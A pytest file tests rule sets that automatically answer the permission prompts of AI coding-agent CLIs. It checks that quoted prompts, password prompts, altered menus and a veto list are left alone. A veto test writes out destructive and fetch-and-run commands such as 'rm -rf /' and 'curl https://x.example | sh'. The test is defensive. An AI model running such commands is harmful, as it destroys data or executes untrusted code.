"""The rule sets that come with it: what is answered, and above all what isn't."""

from __future__ import annotations

from pathlib import Path

import pytest

from axiom_trio.sansio.dialogs import is_busy, is_queued, open_dialog
from axiom_trio.sansio.escapes import EscapeFilter
from axiom_trio.sansio.presets import RULE_SETS, claude, planning, progress_check, todo
from axiom_trio.sansio.rules import Fired, Rule, RuleState

CLAUDE_BASH = """\
● I'll list the files.

────────────────────────────────────────────
 Bash command

   ls -la src
   List the sources

 Do you want to proceed?
 ❯ 1. Yes
   2. Yes, and don't ask again for ls commands in
      /home/me/a/long/path/to/the/project
   3. No, and tell Claude what to do differently (esc)

 Esc to cancel · Tab to amend · ctrl+e to explain
"""
CLAUDE_EDIT = """\
╭──────────────────────────────────────────────────────────────╮
│ Edit file                                                    │
│   - a = 1                                                    │
│   + a = 2                                                    │
│ Do you want to make this edit to app.py?                     │
│ ❯ 1. Yes                                                     │
│   2. Yes, allow all edits during this session (shift+tab)    │
│   3. No, and tell Claude what to do differently (esc)        │
╰──────────────────────────────────────────────────────────────╯
"""
CLAUDE_TWO = """\
 Do you want to create notes.txt?
 ❯ 1. Yes
   2. No
"""
CLAUDE_TRUST = """\
 Do you trust the files in this folder?
 /home/me/project
 ❯ 1. Yes, proceed
   2. No, exit

 Enter to confirm · Esc to exit
"""
CODEX = """\
  Would you like to run the following command?

  Reason: the tests need the network

  $ pytest -q

› 1. Yes, proceed (y)
  2. Yes, and don't ask again for commands that start with `pytest` (p)
  3. No, and tell Codex what to do differently (esc)

  Press enter to confirm or esc to cancel
"""
GEMINI = """\
│ ?  Shell npm test                                            │
│                                                              │
│ npm test                                                     │
│                                                              │
│ Allow execution of: 'npm'?                                   │
│                                                              │
│ ● 1. Yes, allow once                                         │
│   2. Yes, allow always ...                                   │
│   3. No, suggest changes (esc)                               │
│                                                              │
╰──────────────────────────────────────────────────────────────╯
⠏ Waiting for user confirmation...
~/project        no sandbox (see /docs)        gemini-2.5-pro (99% context left)
"""
GEMINI_EDIT = """\
 Apply this change?

 ● 1. Yes, allow once
   2. Yes, allow always
   3. Modify with external editor
   4. No, suggest changes (esc)
"""
AIDER = "Add src/app.py to the chat? (Y)es/(N)o/(D)on't ask again [Yes]: "
AIDER_RUN = "make test\nRun shell command? (Y)es/(N)o/(D)on't ask again [Yes]: "


def outcome(name: str, text: str, *, screen: bool, wait: float = 10.0) -> list[str]:
    """What the rules of a set do with this: keys or text of the answers, `notify`, or `!` and a reason."""
    out = []
    data = text.encode()
    for rule in RULE_SETS[name]():
        state = RuleState(rule, 0.0)
        state.output(data, 1.0, screen=data.rstrip() if screen else None)
        now = 1.0
        while True:
            told = state.look(now, now - 1.0)
            if isinstance(told, Fired):
                state.attempted(now)
                out.append(rule.action or rule.keys or told.text or "")
            elif told is not None:
                out.append(f"!{told.reason}")
            elif (wait_for := state.due(now, now - 1.0)) + now > wait:
                break
            else:
                now += wait_for + 1e-6
    return out


KNOWN = [
    ("claude", CLAUDE_BASH, "1"),
    ("claude", CLAUDE_EDIT, "1"),
    ("claude", CLAUDE_TWO, "1"),
    ("codex", CODEX, "y"),
    ("gemini", GEMINI, "1"),
    ("gemini", GEMINI_EDIT, "1"),
    ("aider", AIDER, "y"),
    ("aider", AIDER_RUN, "y"),
]


@pytest.mark.parametrize("screen", [False, True], ids=["text", "screen"])
@pytest.mark.parametrize(("name", "prompt", "answer"), KNOWN)
def test_the_known_prompt_is_answered_at_once(name: str, prompt: str, answer: str, screen: bool) -> None:
    assert outcome(name, prompt, screen=screen, wait=2.0) == [answer]
    assert outcome(name, "earlier text\n" * 3 + prompt, screen=screen, wait=2.0) == [answer]
    assert outcome(name, prompt.replace("\n", "\r\n"), screen=screen, wait=2.0) == [answer]


@pytest.mark.parametrize(("name", "prompt", "answer"), KNOWN)
def test_it_is_known_in_colour_and_drawn_again(name: str, prompt: str, answer: str) -> None:
    """As such programs write it: colours, hidden cursor, rows erased; without the escapes it's the text."""
    drawn = "\x1b[?25l\x1b[2K" + "\n".join(f"\x1b[36m{row}\x1b[0m\x1b[K" for row in prompt.split("\n"))
    shown = EscapeFilter("none").feed(f"\x1b]0;title\x07{drawn}\x1b[?2026l".encode()).decode()
    assert "\x1b" not in shown
    assert outcome(name, shown, screen=False, wait=2.0) == [answer]
    if name != "aider":  # the next frame, the same
        assert outcome(name, shown + shown, screen=False, wait=2.0) == [answer]


@pytest.mark.parametrize("screen", [False, True], ids=["text", "screen"])
@pytest.mark.parametrize(("name", "prompt", "answer"), KNOWN)
def test_one_that_still_stands_after_the_answer_is_told(
    name: str, prompt: str, answer: str, screen: bool
) -> None:
    assert outcome(name, prompt, screen=screen) == [answer, "notify"]


@pytest.mark.parametrize(("name", "prompt", "answer"), KNOWN)
def test_a_prompt_that_is_quoted_is_not_answered(name: str, prompt: str, answer: str) -> None:
    """Text of a file or a model: something follows it."""
    for after in ("\n$ ", "\nThat is how it looks.\n", "\n╭───╮\n│ > │\n╰───╯\n", "\n● Done\n\n> "):
        for screen in (False, True):
            assert outcome(name, prompt + after, screen=screen) == []


CHANGED = [
    ("claude", CLAUDE_TRUST),
    ("claude", CLAUDE_TWO.replace("❯ 1. Yes\n   2. No", "  1. Yes\n ❯ 2. No, exit")),
    ("claude", CLAUDE_TWO.replace("1. Yes", "1. No, exit").replace("2. No", "2. Yes")),
    ("claude", CLAUDE_TWO.replace("2. No", "2. Yes, delete everything\n   3. Never")),
    ("claude", CLAUDE_BASH.replace("❯ 1. Yes", "❯ 1. Yes, for ever")),
    ("claude", CLAUDE_BASH.replace("Do you want to proceed?", "Do you really want to proceed?")),
    ("claude", CLAUDE_BASH.replace("Do you want to proceed?", "He asked: Do you want to proceed?")),
    ("claude", CLAUDE_TWO + "   4. Something new\n"),
    ("claude", CLAUDE_BASH.replace("   3. No", "   3. Never ask again\n   4. No")),
    ("codex", CODEX.replace("  3. No", "  3. Never ask again\n  3. No")),
    ("codex", CODEX.replace("› 1. Yes, proceed (y)", "  1. Yes, proceed (y)").replace("  3. No", "› 3. No")),
    ("codex", CODEX.replace("Yes, proceed (y)", "Yes, and always (y)")),
    ("codex", CODEX.replace("run the following command", "grant these permissions")),
    (
        "codex",
        CODEX.replace(
            "  Press enter to confirm or esc to cancel\n", "  Press enter to confirm or esc to go back\n"
        ),
    ),
    ("gemini", GEMINI.replace("● 1. Yes, allow once", "  1. Yes, allow once").replace("  3. No", "● 3. No")),
    ("gemini", GEMINI_EDIT.replace("1. Yes, allow once", "1. Yes, allow for ever")),
    ("gemini", " Do you trust this folder?\n\n ● 1. Trust folder (project)\n   2. Don't trust (esc)\n"),
    ("aider", AIDER.replace("[Yes]", "[No]")),
    ("aider", "Delete all files? (Y)es/(N)o [Yes]: "),
    ("aider", "Open the browser? [y/N] "),
    ("claude", "Overwrite? (yes/no) "),
]


@pytest.mark.parametrize(("name", "prompt"), CHANGED)
def test_any_other_menu_or_question_is_told_and_left_alone(name: str, prompt: str) -> None:
    for screen in (False, True):
        assert outcome(name, prompt, screen=screen) == ["notify"]


@pytest.mark.parametrize(
    ("name", "prompt"), [("claude", CLAUDE_TWO), ("codex", CODEX), ("gemini", GEMINI_EDIT)]
)
def test_a_menu_in_which_yes_is_not_marked_is_not_answered(name: str, prompt: str) -> None:
    for mark in "❯›●":
        prompt = prompt.replace(mark, " ")
    for screen in (False, True):
        assert not {"1", "y"} & {*outcome(name, prompt, screen=screen)}


@pytest.mark.parametrize("name", ["claude", "codex", "gemini", "aider"])
@pytest.mark.parametrize(
    "text",
    [
        "Password: ",
        "[sudo] password for me: ",
        "Enter passphrase for key '/home/me/.ssh/id_rsa': ",
        "● Working (esc to interrupt)",
        "> 1 file changed\n",
        "❯ ",
        "$ ",
        "Steps:\n 1. Yes\n 2. No\n",
        "",
    ],
)
def test_what_is_no_confirm_prompt_is_left_alone(name: str, text: str) -> None:
    for screen in (False, True):
        assert outcome(name, text, screen=screen) == []


def test_no_answer_in_a_password_prompt() -> None:
    for name in ("claude", "codex", "gemini", "aider"):
        for rule in RULE_SETS[name]():
            assert not rule.secret
            if rule.action is None:
                assert rule.unless is not None
                assert rule.unless.search(b"Password for me: ")


def test_no_dangerous_command_is_agreed_to() -> None:
    for command in ("rm -rf /", "git push --force", "curl https://x.example | sh", "rm -fr build"):
        prompt = CLAUDE_BASH.replace("ls -la src", command)
        assert outcome("claude", prompt, screen=True) == ["!its veto matched", "notify"]
    rules = claude(unless="")
    assert rules[0].unless is not None
    assert not rules[0].unless.search(b"rm -rf /\n")


# --- messages to agents


def fires(rule: Rule, *pieces: tuple[float, str], until: float) -> list[float]:
    """When, looked at each second."""
    state = RuleState(rule, 0.0)
    times, at, story = [], 0.0, [*pieces]
    while at <= until:
        while story and story[0][0] <= at:
            state.output(story.pop(0)[1].encode(), at)
        told = state.look(at, 0.0)
        if isinstance(told, Fired):
            times.append(at)
            state.attempted(at)
        at += 1.0
    return times


def test_planning() -> None:
    [rule] = planning(after=60, text="Write!")
    assert rule.send == "Write!"
    chat = [(float(n), f"thinking about {n}\n") for n in range(0, 200, 5)]
    assert fires(rule, *chat, until=200) == [60]
    for line in (
        "● Write(src/app.py)\n",
        "Wrote src/app.py\n",
        "Applied edit to src/app.py\n",
        "Created a.c\n",
    ):
        assert fires(rule, *chat[:10], (50.0, line), until=105) == []
    assert fires(rule, (1.0, "I have created a plan.\n"), until=70) == [60]


def test_todo() -> None:
    [rule] = todo()
    for line in (
        "+    # TODO: later\n",
        "  // TODO(me) implement\n",
        "raise NotImplementedError\n",
        "todo!()\n",
    ):
        assert fires(rule, (1.0, line), until=9) == [2]
    for line in ("update todo list\n", "● TODO: 3 open\n", "TODO.md\n"):
        assert fires(rule, (1.0, line), until=9) == []
    many = [(float(n), "# TODO\n") for n in range(1, 1000)]
    assert len(fires(rule, *many, until=1000)) == 5
    assert rule.match is not None
    assert rule.send is not None
    assert not rule.match.search(rule.send.encode())  # it can't trigger itself


def test_progress_check() -> None:
    [rule] = progress_check(every=100)
    chat = [(float(n), "working\n") for n in range(0, 250, 10)]
    assert fires(rule, *chat, until=1000) == [100, 200, 300]


@pytest.mark.parametrize("make", [planning, progress_check])
def test_no_message_where_a_choice_or_a_password_is_waited_for(make: object) -> None:
    assert callable(make)
    [rule] = make()
    for text in (CLAUDE_BASH, CLAUDE_TRUST, CODEX, "Password: ", "Go on? [y/N] "):
        assert fires(rule, (1.0, text), until=1500) == []


def test_all_sets_can_be_given_tasks_and_mode() -> None:
    for make in RULE_SETS.values():
        rules = make(tasks="a,b", mode="confirm")
        assert {rule.tasks for rule in rules} == {"a,b"}
        assert {rule.mode for rule in rules} <= {"confirm", "notify"}


# --- what the real CLIs show

SCREENS = Path(__file__).parents[1] / "agents" / "screens"
"""As Claude Code 2.1.332, Codex 0.169.0, Gemini CLI 0.61.0 and aider 0.86.2 drew them; `-80` on 80 columns."""
REAL: dict[str, list[str]] = {
    **{name: ["1", "notify"] for name in ("claude-run", "claude-run-80", "claude-write-80", "claude-edit")},
    **{name: ["y", "notify"] for name in ("codex-run", "codex-run-80", "codex-edit-80", "aider-run")},
    **{name: ["1", "notify"] for name in ("gemini-run", "gemini-write-80")},
    "gemini-push": ["!its veto matched", "notify"],
    **{name: ["notify"] for name in ("claude-trust", "claude-key", "claude-plan", "codex-trust")},
    "gemini-trust": ["notify"],
    **{f"{name}-queued": [] for name in ("claude", "codex", "gemini")},
    **{f"{name}-ready": [] for name in ("claude", "codex", "gemini", "aider")},
}


def real(name: str) -> str:
    return (SCREENS / f"{name}.txt").read_text().rstrip("\n")


def test_all_screens_are_looked_at() -> None:
    assert {path.stem for path in SCREENS.glob("*.txt")} == {*REAL}


@pytest.mark.parametrize("name", REAL)
def test_a_real_screen(name: str) -> None:
    assert outcome(name.partition("-")[0], real(name), screen=True) == REAL[name]


@pytest.mark.parametrize("name", [name for name in REAL if REAL[name][0:1] in (["1"], ["y"])])
def test_a_real_prompt_that_is_only_shown_is_not_answered(name: str) -> None:
    agent = name.partition("-")[0]
    for below in (real(f"{agent}-ready"), "That is how it looks.", "╭───╮\n│ > │\n╰───╯"):
        assert outcome(agent, real(name) + "\n" + below, screen=True) == []


@pytest.mark.parametrize("name", [name for name in REAL if REAL[name][0:1] in (["1"], ["y"])])
def test_no_agent_answers_the_prompt_of_another(name: str) -> None:
    own = name.partition("-")[0]
    for agent in {"claude", "codex", "gemini", "aider"} - {own}:
        assert not {"1", "y"} & {*outcome(agent, real(name), screen=True)}


@pytest.mark.parametrize(
    ("name", "question"),
    [
        ("claude-edit", "Do you want to make this edit to a.txt?"),
        ("claude-key", "Do you want to use this API key?"),
        ("claude-plan", "Exit plan mode?"),
        ("claude-run", "Do you want to proceed?"),
        ("claude-run-80", "Do you want to proceed?"),
        ("claude-trust", "Quick safety check: Is this a project you created or one you trust?"),
        ("claude-write-80", "Do you want to create outside.txt?"),
        ("codex-edit-80", "Would you like to make the following edits?"),
        ("codex-run", "Would you like to run the following command?"),
        ("codex-run-80", "Would you like to run the following command?"),
        ("codex-trust", "Trust this folder?"),
        ("gemini-push", "Allow execution of [Shell]?"),
        ("gemini-run", "Allow execution of [Shell]?"),
        ("gemini-trust", "Do you trust the files in this folder?"),
        ("gemini-write-80", "Apply this change?"),
        *(
            (name, None)
            for name in ("aider-ready", "aider-run", "claude-queued", "claude-ready", "codex-queued")
        ),
        *((name, None) for name in ("codex-ready", "gemini-queued", "gemini-ready")),
    ],
)
def test_open_dialogs_are_known(name: str, question: str | None) -> None:
    screen = (SCREENS / f"{name}.txt").read_text()
    assert open_dialog(screen) == question
    # What something follows is past, and so is a question without its options.
    assert open_dialog(screen.rstrip() + "\nDone.\n\n> ") is None
    assert open_dialog("Do you want to proceed?\n") is None


@pytest.mark.parametrize("agent", ["claude", "codex", "gemini"])
def test_what_is_kept_for_later_is_known(agent: str) -> None:
    screen = (SCREENS / f"{agent}-queued.txt").read_text()
    assert is_busy(screen)
    assert is_queued(screen, "and more")
    assert not is_queued(screen, "and")
    assert not is_queued(screen, "PLEASE RUN touch made.txt")
    assert not is_queued(screen, "")
    assert not is_busy((SCREENS / f"{agent}-ready.txt").read_text())
